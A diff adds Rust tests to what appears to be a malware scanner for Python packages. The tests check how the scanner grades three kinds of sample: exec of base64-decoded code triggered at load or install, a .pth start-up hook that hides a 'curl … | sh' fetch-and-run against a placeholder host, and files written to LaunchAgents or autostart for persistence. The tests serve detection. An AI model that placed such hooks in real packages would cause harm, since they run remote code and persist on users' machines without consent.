@@ -2981,3 +2981,92 @@ fn a_walrus_binding_carries_its_value() {
     let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
     assert!(report.findings.iter().any(|f| f.rule == "exec-decoded"), "{:#?}", report.findings);
 }
+
+/// A function that runs code decoded from what it is handed is a
+/// deserializer when a caller asks (medium); once another file of the
+/// package calls it while the package loads or installs, the code is the
+/// package's own: critical, with the caller named. A function handed to a
+/// thread counts as called. Written for the test.
+#[test]
+fn decoded_code_run_by_another_files_load_is_the_packages_own() {
+    let worker = "import base64, threading\n\
+                  def _run(blob):\n    exec(base64.b64decode(blob))\n\
+                  def _later():\n    _run(open('data.bin').read())\n\
+                  def start():\n    threading.Thread(target=_later).start()\n";
+    let level = |entries: &[Entry<'_>]| {
+        let report = scan(&ManifestFacts::default(), entries);
+        report.findings.into_iter().find(|f| f.rule == "exec-decoded").map(|f| (f.severity, f.message, f.because))
+    };
+    let alone = level(&[Entry { path: "pkg/worker.py", bytes: worker.as_bytes() }]);
+    assert!(matches!(alone, Some((Severity::Medium, _, _))), "{alone:?}");
+    let init = "from .worker import start as _start\n_start()\n";
+    let loaded = level(&[
+        Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
+        Entry { path: "pkg/worker.py", bytes: worker.as_bytes() },
+    ]);
+    let Some((severity, message, because)) = loaded else { panic!("no exec-decoded") };
+    assert_eq!(severity, Severity::Critical, "{message}");
+    assert!(!message.contains("caller hands over"), "{message}");
+    assert!(because.iter().any(|b| b.contains("__init__.py")), "{because:?}");
+    let setup = "from setuptools import setup\nimport pkg.worker\npkg.worker.start()\nsetup(name='x')\n";
+    let installed = level(&[
+        Entry { path: "setup.py", bytes: setup.as_bytes() },
+        Entry { path: "pkg/worker.py", bytes: worker.as_bytes() },
+    ]);
+    assert!(matches!(installed, Some((Severity::Critical, _, _))), "{installed:?}");
+}
+
+/// A `.pth` file's `import` lines run at every start of Python: they are
+/// read as code that runs at install, including a program started with
+/// `-c` and a payload longer than the 400 characters an argument keeps.
+/// Path lines are not code. Written for the test.
+#[test]
+fn a_pth_files_import_lines_are_read_as_code() {
+    let code = format!("import os\n# {}\nos.system('curl -s https://example.invalid/s | sh')\n", "x".repeat(500));
+    let payload = base64_of(code.as_bytes());
+    let pth = format!(
+        "../shared/lib\nimport sys, subprocess; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('{payload}'))\"])\n"
+    );
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "zz_hook.pth", bytes: pth.as_bytes() }]);
+    assert_eq!(report.risk_level, RiskLevel::Critical, "{:#?}", report.findings);
+    // The path line is not code: nothing is found on it.
+    assert!(report.findings.iter().all(|f| f.file != "zz_hook.pth" || f.line != 1), "{:#?}", report.findings);
+    let paths = "../shared/lib\n# comment\nsrc\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "x.pth", bytes: paths.as_bytes() }]);
+    assert!(report.findings.iter().all(|f| f.severity < Severity::Medium), "{:#?}", report.findings);
+    // Deeper in the package a `.pth` is not a start-up file (PyTorch's
+    // weights): neither code nor undecodable text.
+    for (path, bytes) in [("pkg/hooks/x.pth", pth.as_bytes()), ("pkg/weights/alex.pth", &b"PK\x03\x04\xff\xfe"[..])] {
+        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes }]);
+        assert!(report.findings.iter().all(|f| f.severity < Severity::Medium), "{path}: {:#?}", report.findings);
+    }
+}
+
+/// A plist written into `~/Library/LaunchAgents` (or a desktop file into
+/// `~/.config/autostart`) starts at every login: persistence, high when
+/// the package writes it as it loads; medium when its user asks (a
+/// service manager's "install as a service"). Written for the test.
+#[test]
+fn a_login_agent_written_is_persistence() {
+    for dir in ["~/Library/LaunchAgents/com.example.helper.plist", "~/.config/autostart/helper.desktop"] {
+        let put = format!(
+            "import os\nP = os.path.expanduser('{dir}')\ndef put(body):\n    with open(P, 'w') as f:\n        f.write(body)\n"
+        );
+        for (src, level) in [(format!("{put}put('x')\n"), Severity::High), (put.clone(), Severity::Medium)] {
+            let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/agent.py", bytes: src.as_bytes() }]);
+            let f = report.findings.iter().find(|f| f.rule == "persistence-startup");
+            assert!(f.is_some_and(|f| f.severity == level), "{src}: {:#?}", report.findings);
+        }
+        // Asked for by the package itself: its `__init__` calls it as it loads.
+        let init = "from . import agent\nagent.put('x')\n";
+        let report = scan(
+            &ManifestFacts::default(),
+            &[
+                Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
+                Entry { path: "pkg/agent.py", bytes: put.as_bytes() },
+            ],
+        );
+        let f = report.findings.iter().find(|f| f.rule == "persistence-startup");
+        assert!(f.is_some_and(|f| f.severity == Severity::High), "{:#?}", report.findings);
+    }
+}
